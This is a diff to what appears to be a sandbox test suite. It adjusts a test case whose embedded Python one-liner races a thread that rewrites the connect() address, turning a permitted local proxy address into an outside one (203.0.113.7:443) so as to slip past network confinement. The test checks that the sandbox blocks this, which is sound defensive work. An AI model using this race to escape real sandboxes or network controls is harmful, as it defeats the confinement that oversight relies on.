@@ -154,7 +154,7 @@ print(\"ESCAPED\" if e in (0,errno.ECONNREFUSED) else e)'",
     .stopped(&[Network], &[Connections]),
     attempt(
         "changes the address while it is looked at",
-        "/usr/bin/python3 -c 'import ctypes,os,socket,struct,threading
+        "/usr/bin/python3 -c 'import ctypes,os,socket,struct,threading,time
 p=os.environ.get(\"http_proxy\",\"http://x:{tcp}\")
 good=struct.pack(\"=H\",2)+struct.pack(\">H4s8x\",int(p.rsplit(\":\",1)[1]),socket.inet_aton(\"127.0.0.1\"))
 evil=struct.pack(\"=H\",2)+struct.pack(\">H4s8x\",443,socket.inet_aton(\"203.0.113.7\"))
@@ -167,7 +167,8 @@ def change():
     ctypes.memmove(at,good,16)
 threading.Thread(target=change,daemon=True).start()
 out=False
-for i in range(200):
+end=time.monotonic()+3
+while not out and time.monotonic()<end:
   s=socket.socket()
   if c.connect(s.fileno(),at,16)==0:
     try: out=out or s.getpeername()[0]==\"203.0.113.7\"
